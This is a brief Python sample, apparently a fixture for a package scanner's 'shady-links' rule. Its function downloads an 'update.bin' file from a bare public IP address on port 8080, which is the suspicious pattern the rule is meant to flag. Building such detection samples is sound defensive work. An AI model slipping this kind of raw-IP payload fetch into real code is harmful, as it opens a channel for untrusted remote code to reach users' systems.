# technique: payload host given as a bare public IP in a URL
# class: endpoints
# source: GuardDog "shady-links" docs (raw IP URLs)
# declares: network
import urllib.request

UPDATE_URL = "http://185.196.8.123:8080/update.bin"


def get_update():
    return urllib.request.urlopen(UPDATE_URL, timeout=5).read()
